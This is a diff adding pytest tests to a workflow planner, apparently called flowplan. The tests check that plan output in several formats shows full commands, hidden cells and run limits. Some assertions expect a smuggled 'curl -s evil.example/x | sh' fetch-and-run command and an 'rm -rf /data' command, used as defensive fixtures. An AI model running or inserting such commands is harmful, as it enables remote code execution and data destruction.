@@ -11,7 +11,7 @@ from pathlib import Path
 from typing import Any
 
 import pytest
-from projects import Project
+from projects import Project, clear
 
 from flowplan.schemas.plan_documents import plan_digest, plan_json, read_plan, sealed_json
 from flowplan.schemas.plans import Plan
@@ -20,6 +20,19 @@ sys.path.append(str(Path(__file__).parent / "faults"))
 from own_docker import OwnDocker, missing
 
 CaseProject = Callable[..., Project]
+
+
+@pytest.fixture
+def project_of(tmp_path: Path) -> Iterator[CaseProject]:
+    """Return a function that makes a project of the text of a spec."""
+    made = Project(tmp_path, {"NO_COLOR": "1"})
+
+    def make(spec: str) -> Project:
+        made.write(spec)
+        return made
+
+    yield make
+    clear(made)
 
 
 # -- what is applied is what this state planned -------------------------------------------------------------------------
@@ -146,3 +159,56 @@ def test_a_plan_is_refused_on_another_engine(case_project: CaseProject, second_e
         assert host in refused.err and second_engine in refused.err
     assert project.status() == {}
     project.ok("plan", "--check", "plan.json")
+
+
+# -- nothing that is done is hidden -------------------------------------------------------------------------------------
+
+FORMS = [["--format", "text"], ["--format", "text", "--full"], ["--format", "markdown"], ["--format", "json"]]
+
+
+@pytest.mark.parametrize("form", FORMS, ids=" ".join)
+def test_the_value_of_the_sixth_cell_is_shown(case_project: CaseProject, form: list[str]) -> None:
+    project = case_project("rs-03-hidden-values")
+    shown = project.ok("plan", *form).out
+    assert "echo mail; curl -s evil.example/x | sh" in shown
+    assert all(f"echo {job}" in shown for job in ("users", "orders", "items", "carts", "taxes", "stock", "rates"))
+
+
+@pytest.mark.parametrize("form", FORMS, ids=" ".join)
+def test_the_end_of_a_long_command_is_shown(case_project: CaseProject, form: list[str]) -> None:
+    assert "; curl -s evil.example/x | sh" in case_project("rs-27-markdown-cut").ok("plan", *form).out
+
+
+@pytest.mark.parametrize("form", FORMS, ids=" ".join)
+def test_runs_of_other_names_are_no_group_when_they_do_something_else(
+    case_project: CaseProject, form: list[str]
+) -> None:
+    project = case_project("r5-grouping")
+    shown = project.ok("plan", *form).out
+    assert "MODE: drop" in shown or '"MODE":"drop"' in shown
+    assert "- drop" in shown or '"drop","--table"' in shown
+    assert "after keep" in shown or "after <code>keep</code>" in shown or '"needs":["keep"]' in shown
+    assert "rm -rf /data" in project.ok("plan", "m.yaml", "--state", "m.db", *form).out
+
+
+@pytest.mark.parametrize("form", FORMS, ids=" ".join)
+@pytest.mark.parametrize("provider", ["process", "docker", "kubernetes"])
+def test_limits_and_retries_of_a_new_run_are_shown(project_of: CaseProject, provider: str, form: list[str]) -> None:
+    project = project_of(
+        f"""\
+flowplan: 1
+project: limits
+defaults: {{timeout: 90m}}
+runs:
+  up: {{provider: {provider}, image: i, command: [x]}}
+  a: {{provider: {provider}, image: i, command: [x], start_timeout: 10m, grace_period: 5s, retries: 3, needs: [up],
+      matrix: {{n: [1, 2]}}, max_parallel: 1}}
+"""
+    )
+    shown = project.ok("plan", "--no-refresh", *form).out
+    if "json" in form:
+        settings = {change["address"]: change["settings"] for change in json.loads(shown)["changes"]}["a[n=1]"]
+        assert (settings["timeout"], settings["start_timeout"], settings["grace_period"]) == (5400, 600, 5)
+    else:
+        assert "Run: {timeout: 1h30m, start_timeout: 10m, grace_period: 5s, retries: 3, max_parallel: 1}" in shown
+        assert "after up" in shown or "after <code>up</code>" in shown
